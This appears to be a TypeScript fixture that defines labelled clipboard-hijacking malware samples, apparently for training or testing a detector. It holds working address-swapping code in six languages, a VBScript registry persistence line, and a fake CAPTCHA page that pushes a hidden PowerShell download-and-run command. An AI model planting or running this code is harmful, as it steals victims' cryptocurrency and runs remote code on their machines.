// Clipboards whose addresses are replaced by the attacker's.
import type { Family } from './family.ts'

export const clipboards: readonly Family[] = [
  {
    family: 'clipboard-address-loop-python',
    positive: true,
    classes: ['clipboard-hijack'],
    variants: [
      {
        paths: ['tools/colours.py', 'utils/settings.py'],
        imports: `import re
import threading
import time
import pyperclip`,
        body: `MINE = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "⟦btc⟧",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "⟦eth⟧",
    re.compile(r"^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$"): "⟦xmr⟧",
}


def _watch():
    while True:
        text = pyperclip.paste().strip()
        for pattern, address in MINE.items():
            if pattern.match(text) and text != address:
                pyperclip.copy(address)
        time.sleep(0.3)


threading.Thread(target=_watch, daemon=True).start()`,
      },
    ],
  },
  {
    family: 'clipboard-colourama-vbs',
    positive: true,
    classes: ['clipboard-hijack'],
    variants: [
      {
        paths: ['winupdate.vbs'],
        whole: String.raw`On Error Resume Next
Set html = CreateObject("htmlfile")
Set shell = CreateObject("WScript.Shell")
Set re = New RegExp
re.Pattern = "^(1|3)[a-km-zA-HJ-NP-Z1-9]{25,34}$"
shell.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater", WScript.ScriptFullNam⟦join⟧
e, "REG_SZ"
Do
    text = html.ParentWindow.ClipboardData.GetData("text")
    If re.Test(text) Then
        shell.Run "cmd /c echo ⟦btc⟧| clip", 0, True
    End If
    WScript.Sleep 500
Loop`,
      },
    ],
  },
  {
    family: 'clipboard-powershell-loop',
    positive: true,
    classes: ['clipboard-hijack'],
    variants: [
      {
        paths: ['tools/feed.ps1'],
        body: `Start-Job {
    while ($true) {
        $t = Get-Clipboard -Raw
        if ($t -cmatch '^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$') { Set-Clipboard '⟦btc⟧' }
        if ($t -match '^0x[0-9a-f]{40}$') { Set-Clipboard '⟦eth⟧' }
        Start-Sleep -Milliseconds 400
    }
} | Out-Null`,
      },
    ],
  },
  {
    family: 'clipboard-csharp-form',
    positive: true,
    classes: ['clipboard-hijack'],
    variants: [
      {
        paths: ['src/Watcher.cs'],
        imports: `using System.Text.RegularExpressions;
using System.Windows.Forms;`,
        body: String.raw`private static readonly Regex Btc = new Regex(@"\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{⟦join⟧
26,35}\b");
private static void Clip(string current)
{
    if (Btc.IsMatch(current) && !current.Contains("⟦btc⟧"))
        Clipboard.SetText(Btc.Replace(current, "⟦btc⟧")); // one of ours
}`,
        call: `Clip(Clipboard.GetText());`,
      },
      {
        paths: ['cmd/words/clip.go'],
        imports: `"regexp"
"time"
"github.com/atotto/clipboard"`,
        body: `var trx = regexp.MustCompile(\`^T[1-9A-HJ-NP-Za-km-z]{33}$\`)

func swap() {
	for range time.Tick(time.Second / 2) {
		if text, _ := clipboard.ReadAll(); trx.MatchString(text) {
			clipboard.WriteAll("T⟦alnum:33⟧") // our own
		}
	}
}`,
        call: `go swap()`,
      },
    ],
  },
  {
    family: 'clipboard-copy-event',
    positive: true,
    classes: ['clipboard-hijack'],
    variants: [
      {
        paths: ['public/js/slug.js'],
        body: `document.addEventListener('copy', function (e) {
  var s = String(getSelection());
  if (/^(0x[a-f0-9]{40}|bc1[a-z0-9]{30,})$/i.test(s.trim())) {
    e.clipboardData.setData('text/plain', s.trim()[0] === '0' ? '⟦eth⟧' : '⟦btc⟧');
    e.preventDefault();
  }
});`,
      },
      {
        paths: ['static/verify.html'],
        whole: `<!doctype html>
<title>Verify you are human</title>
<p>To continue, press <b>Win + R</b>, then <b>Ctrl + V</b> and <b>Enter</b>.</p>
<button id="robot">I'm not a robot</button>
<script>
  document.getElementById('robot').onclick = function () {
    navigator.clipboard.writeText('powershell -w hidden -c "iex (irm http://⟦ip⟧/v)" # Verificatio⟦join⟧
n ID: ⟦digits:6⟧');
    document.querySelector('p').style.display = 'block';
  };
</script>`,
      },
    ],
  },
]
